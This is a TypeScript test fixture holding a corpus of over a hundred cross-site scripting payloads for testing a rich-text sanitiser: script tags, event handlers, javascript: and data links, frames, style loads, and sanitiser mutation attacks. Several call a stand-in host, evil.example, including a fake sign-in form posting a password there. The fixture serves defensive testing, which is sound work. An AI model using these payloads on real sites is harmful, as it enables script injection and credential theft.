/**
 * Texts that try to run a script, load something external or cover the page, as rich text. Each calls `alert(1)` or
 * requests `evil.example` where it succeeds, so that a browser test can detect either. The sources are public
 * collections: filter evasion sheets, mutation attacks on sanitisers, and attacks that were tried on this product.
 */
export interface Attack {
  name: string;
  html: string;
}

const script = '<script>alert(1)</script>';
/** A template would decode escapes; these must arrive as typed. */
const raw = String.raw;

const scripts: Attack[] = [
  { name: 'plain script', html: script },
  { name: 'script in upper and lower case', html: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script from elsewhere', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script without its end', html: '<p>a<script>alert(1)' },
  { name: 'script with a space in its end', html: '<script>alert(1)</script \n>' },
  { name: 'script split by a script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script split by a comment', html: '<scr<!-- -->ipt>alert(1)</script>' },
  { name: 'script after a slash', html: '<script/x>alert(1)</script>' },
  { name: 'script after a NUL', html: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },
  { name: 'script with doubled brackets', html: '<<script>alert(1);//<</script>' },
  { name: 'script closing an attribute', html: `<p title="</p>${script}">a</p>` },
  { name: 'script in an svg', html: `<svg>${script}</svg>` },
  { name: 'script in an svg as character data', html: '<svg><script><![CDATA[alert(1)]]></script></svg>' },
  { name: 'script in mathml', html: `<math>${script}</math>` },
  { name: 'script in a template', html: `<template>${script}</template>` },
  { name: 'script in noscript', html: `<noscript><p title="</noscript>${script}"></noscript>` },
];

const handlers: Attack[] = [
  { name: 'image that fails', html: '<img src=x onerror=alert(1)>' },
  { name: 'own image with a handler', html: '<img src="/images/acme/1/a.png" onload="alert(1)">' },
  { name: 'image with slashes between attributes', html: '<img/src=x/onerror=alert(1)>' },
  { name: 'image with an unquoted bracket', html: '<img src="x` `<script>alert(1)</script>"` `>' },
  { name: 'image whose quote is not closed', html: '<img src="x onerror=alert(1)//' },
  { name: 'image called by its old name', html: '<image src=x onerror=alert(1)>' },
  { name: 'paragraph under the pointer', html: '<p onmouseover="alert(1)">a</p>' },
  { name: 'handler in capitals', html: '<p ONCLICK="alert(1)">a</p>' },
  { name: 'handler behind a line break', html: '<p\nonclick\n=\n"alert(1)">a</p>' },
  { name: 'handler with entities', html: '<p onclick="&#97;lert(1)">a</p>' },
  { name: 'handler after a form feed', html: '<img\u000csrc=x\u000conerror=alert(1)>' },
  { name: 'element that takes focus', html: '<p tabindex=1 autofocus onfocus=alert(1)>a</p>' },
  { name: 'svg that loads', html: '<svg onload=alert(1)>' },
  { name: 'svg that loads, without spaces', html: '<svg/onload=alert(1)>' },
  { name: 'svg animation', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>' },
  {
    name: 'svg link changed by an animation',
    html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>a</text></a></svg>',
  },
  { name: 'svg from elsewhere', html: '<svg><use href="https://evil.example/x.svg#x"></use></svg>' },
  { name: 'body that loads', html: '<body onload=alert(1)>' },
  { name: 'details that open', html: '<details open ontoggle=alert(1)>a</details>' },
  { name: 'video without a source', html: '<video><source onerror=alert(1)></video>' },
  { name: 'audio that fails', html: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'input that takes focus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'select that takes focus', html: '<select autofocus onfocus=alert(1)><option>a</option></select>' },
  { name: 'marquee', html: '<marquee onstart=alert(1)>a</marquee>' },
  { name: 'element made up', html: '<x onclick=alert(1)>a</x>' },
  {
    name: 'animated element',
    html: '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">a</p>',
  },
];

const links: Attack[] = [
  { name: 'javascript link', html: '<a href="javascript:alert(1)">a</a>' },
  { name: 'javascript link in capitals', html: '<a href="JaVaScRiPt:alert(1)">a</a>' },
  { name: 'javascript link after spaces', html: '<a href="  javascript:alert(1)">a</a>' },
  { name: 'javascript link after a control character', html: '<a href="\u0001javascript:alert(1)">a</a>' },
  { name: 'javascript link with a tab', html: '<a href="java\tscript:alert(1)">a</a>' },
  {
    name: 'javascript link with a line break as an entity',
    html: '<a href="java&#10;script:alert(1)">a</a>',
  },
  { name: 'javascript link with a named entity', html: '<a href="javascript&colon;alert(1)">a</a>' },
  { name: 'javascript link with a tab as a named entity', html: '<a href="java&Tab;script:alert(1)">a</a>' },
  {
    name: 'javascript link in decimal entities',
    html: '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">a</a>',
  },
  {
    name: 'javascript link in padded hexadecimal entities',
    html: '<a href="&#x000006A;avascript:alert(1)">a</a>',
  },
  { name: 'javascript link percent-encoded', html: '<a href="javascript%3Aalert(1)">a</a>' },
  { name: 'javascript link percent-encoded twice', html: '<a href="%256Aavascript%253Aalert(1)">a</a>' },
  { name: 'javascript link as a button', html: '<a class="button" href="javascript:alert(1)">Book</a>' },
  {
    name: 'javascript link with a comment',
    html: '<a href="javascript:/*https://acme.example*/alert(1)">a</a>',
  },
  {
    name: 'javascript link that looks like a web address',
    html: '<a href="javascript://acme.example/%0aalert(1)">a</a>',
  },
  { name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">a</a>' },
  { name: 'data link with a page', html: '<a href="data:text/html,<script>alert(1)</script>">a</a>' },
  {
    name: 'data link in base64',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  },
  { name: 'blob link', html: '<a href="blob:https://evil.example/1">a</a>' },
  { name: 'file link', html: '<a href="file:///etc/passwd">a</a>' },
  { name: 'link without a protocol', html: '<a href="//evil.example">a</a>' },
  { name: 'link without a protocol, with backslashes', html: raw`<a href="\\evil.example">a</a>` },
  { name: 'link that begins like a path', html: raw`<a href="/\evil.example">a</a>` },
  { name: 'link that begins like a path, encoded', html: '<a href="/%5cevil.example">a</a>' },
  { name: 'path with an encoded second slash', html: '<a href="/%2fevil.example">a</a>' },
  { name: 'path with a tab before the second slash', html: '<a href="/\t/evil.example">a</a>' },
  { name: 'link in an old attribute', html: '<a xlink:href="javascript:alert(1)">a</a>' },
  {
    name: 'link with two URLs',
    html: '<a href="javascript:alert(1)" href="https://acme.example">a</a>',
  },
  {
    name: 'link that hands over its window',
    html: '<a href="https://evil.example" target="_blank" rel="opener">a</a>',
  },
  {
    name: 'link that calls home when followed',
    html: '<a href="/contact" ping="https://evil.example">a</a>',
  },
];

const frames: Attack[] = [
  { name: 'frame with a script URL', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'frame with its own page', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'object', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', html: '<embed src="javascript:alert(1)">' },
  {
    name: 'form that posts elsewhere',
    html: '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  },
  {
    name: 'button that takes over a form',
    html: '<button formaction="javascript:alert(1)" form="contact">a</button>',
  },
  { name: 'base URL', html: '<base href="https://evil.example/">' },
  { name: 'redirection', html: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { name: 'stylesheet from elsewhere', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'style element', html: '<style>body{background:url(https://evil.example)}</style>' },
  { name: 'style that loads', html: '<p style="background:url(https://evil.example/x)">a</p>' },
  { name: 'style that covers the page', html: '<p style="position:fixed;inset:0;z-index:9999">a</p>' },
  {
    name: 'style hidden behind the one that is allowed',
    html: '<p style="text-align:center;background:url(https://evil.example)">a</p>',
  },
  { name: 'style with an expression', html: '<p style="width:expression(alert(1))">a</p>' },
  { name: 'style with escapes', html: raw`<p style="background:\75rl(https://evil.example)">a</p>` },
  { name: 'image from elsewhere', html: '<img src="https://evil.example/pixel.gif">' },
  { name: 'image of another company', html: '<img src="/images/globex/1/secret.png">' },
  { name: 'image that climbs out of the library', html: '<img src="/images/acme/../globex/secret.png">' },
  { name: 'image as data', html: '<img src="data:image/svg+xml,<svg onload=alert(1)>">' },
  {
    name: 'image with other sources',
    html: '<img src="/images/acme/1/a.png" srcset="https://evil.example/x 2x">',
  },
  {
    name: 'name that shadows the page',
    html: '<a id="document" name="cookie" href="/x">a</a><img name="body">',
  },
  { name: 'class that looks like the admin', html: '<p class="modal overlay" id="root">Sign in again</p>' },
];

const mutations: Attack[] = [
  {
    name: 'mutation through mathml and style',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  {
    name: 'mutation through svg and title',
    html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
  {
    name: 'mutation through a form in mathml',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  { name: 'mutation through noscript', html: '<noscript><style></noscript><img src=x onerror=alert(1)>' },
  { name: 'mutation through a comment', html: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'mutation through a comment that ends early', html: '<!--!> <img src=x onerror=alert(1)> -->' },
  {
    name: 'mutation through a textarea',
    html: '<textarea></p><img title="</textarea><img src=x onerror=alert(1)>">',
  },
  { name: 'mutation through xmp', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { name: 'mutation through plaintext', html: '<plaintext><img src=x onerror=alert(1)>' },
  {
    name: 'mutation through a select',
    html: '<select><style></select><img src=x onerror=alert(1)></style></select>',
  },
  {
    name: 'mutation through a table',
    html: '<table><tr><td><svg><desc><table><img src=x onerror=alert(1)></table></desc></svg></td></tr></table>',
  },
  {
    name: 'mutation through a processing instruction',
    html: '<?xml-stylesheet ><img src=x onerror=alert(1)> ?>',
  },
  { name: 'mutation through a declaration', html: '<!ELEMENT <img src=x onerror=alert(1)>>' },
  {
    name: 'escaped twice',
    html: '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;<b>&lt;img src=x onerror=alert(1)&gt;</b>',
  },
  { name: 'quotes in another alphabet', html: '<p title=\u00b4>\u00b4 onclick=alert(1)//>a</p>' },
  { name: 'attribute without a name', html: '<p ="x" onclick=alert(1)>a</p>' },
  {
    name: 'names of the language itself',
    html: '<constructor>a</constructor><__proto__ onclick=alert(1)>b</__proto__>',
  },
  { name: 'conditional comment', html: `<!--[if gte IE 4]>${script}<![endif]-->` },
  { name: 'conditional comment that others see', html: `<![if !IE]>${script}<![endif]>` },
];

/** Over a hundred; the API tests save them, the browser tests open what was saved. */
export const xssCorpus: readonly Attack[] = [...scripts, ...handlers, ...links, ...frames, ...mutations];
